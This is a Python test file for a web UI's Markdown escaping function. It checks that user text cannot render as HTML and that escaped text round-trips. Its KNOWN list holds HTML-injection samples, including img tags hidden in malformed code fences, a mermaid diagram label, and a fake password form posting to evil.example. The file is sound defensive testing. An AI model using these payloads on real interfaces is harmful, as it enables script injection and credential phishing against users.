"""webui/markup.py: text shown as Markdown can never make an HTML element, and the edit box gets it back.

The reference renderer here is markdown-it-py with raw HTML on (what CommonMark renderers do by default);
tests/browser/test_security_ui.py checks the same in Gradio's own chatbot, in Chromium.
"""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from webui.markup import escape_text, plain_md, unescape_text

RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])

TAGS = ["img src=x", "form action=//evil.example", "input", "b", "i", "style", "a href=x", "iframe", "svg"]
PIECES = ["`", "``", "```", "~~~", "\\", "<", ">", "</", "<!--", "&lt;", "&amp;", "&#96;", " ", "\n", "\n\n"]
PIECES += ["    ", "\t", "> ", "- ", "1. ", "|", "http://x", "www.", "mermaid", "x", "=", '"']
chunks = st.sampled_from(PIECES) | st.sampled_from(TAGS).map(lambda t: f"<{t}>") | st.sampled_from(TAGS)
markdownish = st.lists(chunks, max_size=40).map("".join)

# Cases that got past the old regex (it found code where CommonMark finds none, or the other way round)
KNOWN = [
    "\\`<img src=x>`",  # an escaped backtick opens no code span
    "``<img src=x>`",  # unequal backtick runs
    "- a\n```\n<img src=x>\n```",  # a fence that is not one
    "```\n```~\n<img src=x>\n```",  # marked closes the fence at "```~", CommonMark does not
    "http://x`<img src=x>`",  # a GFM autolink swallows the opening backtick
    "`a\n<div>b`",  # an HTML block start inside a code span
    "```mermaid\ngraph TD; A[<img src=x>]\n```",  # Gradio's diagram labels are live HTML
    '<form action="//evil.example"><input name=p type=password>Sign in again</form>',
    "&lt;img src=x&gt; <b>bold</b> &amp;",
]


def html_tokens(markdown: str) -> list[str]:
    found = []
    for token in RENDERER.parse(markdown):
        for t in [token, *(token.children or [])]:
            if t.type in ("html_block", "html_inline"):
                found.append(t.content)
    return found


@pytest.mark.parametrize("text", KNOWN)
def test_known_attacks_render_no_element(text: str) -> None:
    shown = escape_text(text)
    assert html_tokens(shown) == [], shown
    assert unescape_text(shown) == text
    assert "```mermaid" not in shown


@settings(max_examples=1500, deadline=None, database=None)
@given(markdownish)
@example("```html\n<div class='x'>\n```")
def test_escaped_markdown_makes_no_element_and_round_trips(text: str) -> None:
    shown = escape_text(text)
    assert html_tokens(shown) == [], (text, shown)
    assert unescape_text(shown) == text


@settings(max_examples=500, deadline=None, database=None)
@given(st.text(max_size=80))
def test_any_text_round_trips(text: str) -> None:
    shown = escape_text(text)
    assert html_tokens(shown) == [], (text, shown)
    assert unescape_text(shown) == text


def test_code_keeps_its_text() -> None:
    """Code shows `<` as written: the escaping leaves code alone where every renderer agrees it is code."""
    assert escape_text("use `<div>` here") == "use `<div>` here"
    fence = "```html\n<p>hi</p>\n```"
    assert escape_text(fence) == fence
    listed = "1. Write:\n\n   ```html\n   <p>hi</p>\n   ```"
    assert escape_text(listed) == listed
    assert escape_text("a <b> c") == "a &lt;b> c"


@settings(max_examples=300, deadline=None, database=None)
@given(st.text(max_size=60))
def test_plain_md_shows_text_literally(text: str) -> None:
    rendered = RENDERER.render(plain_md(text))
    assert html_tokens(plain_md(text)) == []
    assert "<img" not in rendered and "<b>" not in rendered
